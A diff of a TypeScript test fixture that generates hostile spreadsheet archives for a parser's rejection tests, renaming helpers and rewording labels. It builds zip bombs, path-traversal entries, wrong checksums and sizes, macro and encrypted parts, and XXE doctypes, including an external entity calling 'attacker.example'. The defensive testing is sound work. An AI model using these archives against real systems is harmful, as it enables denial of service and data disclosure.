@@ -19,25 +19,25 @@ const partNames = [
   'xl/worksheets/sheet1.xml',
 ] as const;
 
-const changed = (name: string, change: (part: ZipPart) => ZipPart) =>
+const changeParts = (name: string, change: (part: ZipPart) => ZipPart) =>
   goodParts().map((part) => (part.name === name ? change(part) : part));
 
-/** An archive in one of whose parts something is not as it says. */
-const lying = (
+/** Defines archives in which a random part has a wrong field. */
+const withWrongField = (
   name: string,
   codes: Parameters<typeof refused>[1],
-  lie: (random: Random, part: ZipPart) => Partial<ZipPart>,
+  override: (random: Random, part: ZipPart) => Partial<ZipPart>,
 ): HostileKind =>
   refused(name, codes, (random) =>
-    zipOf(changed(random.oneOf(partNames), (part) => ({ ...part, ...lie(random, part) }))),
+    zipOf(changeParts(random.oneOf(partNames), (part) => ({ ...part, ...override(random, part) }))),
   );
 
-/** Sixty-four megabytes that fit in sixty-four kilobytes. */
+/** 64 MB that compress to 64 KB. */
 const bombPacked = deflateRawSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
 const bombSize = 64 * 1024 * 1024;
 
 const withContent = (name: string, change: (text: string) => string) =>
-  zipOf(changed(name, (part) => ({ ...part, content: change(String(part.content)) })));
+  zipOf(changeParts(name, (part) => ({ ...part, content: change(String(part.content)) })));
 
 const afterHead = (declaration: string) => (text: string) => text.replace(/(<\?xml[^>]*\?>\s*)/, `$1${declaration}`);
 
@@ -49,14 +49,14 @@ const doctypes = (random: Random) =>
     '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
   ]);
 
-/** Archives that lie, swell, hide something, or reach outside. */
+/** Archives with wrong fields, decompression bombs, hidden content or external references. */
 export const hostileArchives: readonly HostileKind[] = [
-  lying('a bomb that says how large it is', 'FileTooLarge', () => ({ packed: bombPacked, size: bombSize })),
-  lying('a bomb that says it is small', 'FileDamaged', (random) => ({
+  withWrongField('a bomb with its true size', 'FileTooLarge', () => ({ packed: bombPacked, size: bombSize })),
+  withWrongField('a bomb with a small declared size', 'FileDamaged', (random) => ({
     packed: bombPacked,
     size: 1 + random.below(100_000),
   })),
-  refused('bombs in parts that nobody needs', 'FileTooLarge', (random) =>
+  refused('bombs in unused parts', 'FileTooLarge', (random) =>
     zipOf([
       ...goodParts(),
       ...Array.from({ length: 2 + random.below(5) }, (_, index) => ({
@@ -67,14 +67,14 @@ export const hostileArchives: readonly HostileKind[] = [
       })),
     ]),
   ),
-  lying('a size that is too large by a little', 'FileDamaged', (random, part) => ({
+  withWrongField('a slightly too large declared size', 'FileDamaged', (random, part) => ({
     size: part.content.length + 1000 + random.below(1000),
   })),
-  lying('a sum that is wrong', 'FileDamaged', (random) => ({ sum: random.below(2 ** 31) })),
-  lying('packed bytes beyond the end', 'FileDamaged', (random) => ({
+  withWrongField('a wrong checksum', 'FileDamaged', (random) => ({ sum: random.below(2 ** 31) })),
+  withWrongField('compressed bytes beyond the end', 'FileDamaged', (random) => ({
     packedSize: 10_000_000 + random.below(1_000_000_000),
   })),
-  lying('a way of packing that nobody knows', 'FileDamaged', (random) => ({
+  withWrongField('an unsupported compression method', 'FileDamaged', (random) => ({
     method: random.oneOf([1, 6, 9, 12, 14, 93, 99]),
   })),
   refused('thousands of parts', 'FileTooLarge', (random) =>
@@ -83,14 +83,14 @@ export const hostileArchives: readonly HostileKind[] = [
       ...Array.from({ length: 400 + random.below(2000) }, (_, index) => ({ name: `xl/x${index}.xml`, content: '' })),
     ]),
   ),
-  refused('more parts than there are', ['FileDamaged', 'FileTooLarge'], (random) =>
+  refused('a too large entry count', ['FileDamaged', 'FileTooLarge'], (random) =>
     zipOf(goodParts(), { entries: 8 + random.below(60_000) }),
   ),
-  refused('one part twice', 'FileDamaged', (random) => {
+  refused('a duplicate part', 'FileDamaged', (random) => {
     const name = random.oneOf(partNames);
     return zipOf([...goodParts(), { name: random.oneOf([name, name.toUpperCase()]), content: '<a/>' }]);
   }),
-  refused('a name that leads out of the archive', 'FileDamaged', (random) =>
+  refused('a path outside the archive', 'FileDamaged', (random) =>
     zipOf([
       ...goodParts(),
       {
@@ -102,10 +102,10 @@ export const hostileArchives: readonly HostileKind[] = [
   refused('a document type', 'FileDamaged', (random) =>
     withContent(random.oneOf(partNames), afterHead(doctypes(random))),
   ),
-  refused('an entity that nobody declared', 'FileDamaged', (random) =>
+  refused('an undeclared entity', 'FileDamaged', (random) =>
     withContent(random.oneOf(partNames), (text) => text.replace(/<\/\w+>\s*$/, (end) => `&xxe;${end}`)),
   ),
-  lying('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
+  withWrongField('a part in UTF-16, with a document type', 'FileDamaged', (random, part) => ({
     content: Buffer.from(`\uFEFF${afterHead(doctypes(random))(String(part.content))}`, 'utf16le'),
   })),
   refused('macros', 'FileWithMacros', (random) =>
@@ -121,8 +121,8 @@ export const hostileArchives: readonly HostileKind[] = [
       ),
     ]),
   ),
-  lying('a part under a password', 'FilePasswordProtected', () => ({ flags: 1 })),
-  refused('an archive of something else', 'FileWrongType', (random) =>
+  withWrongField('an encrypted part', 'FilePasswordProtected', () => ({ flags: 1 })),
+  refused('an archive that is not a workbook', 'FileWrongType', (random) =>
     zipOf(
       random.oneOf<ZipPart[]>([
         [
@@ -139,7 +139,7 @@ export const hostileArchives: readonly HostileKind[] = [
       ]),
     ),
   ),
-  refused('no sheet where one should be', 'FileDamaged', () =>
+  refused('a missing sheet part', 'FileDamaged', () =>
     zipOf(goodParts().filter(({ name }) => name !== 'xl/worksheets/sheet1.xml')),
   ),
 ];
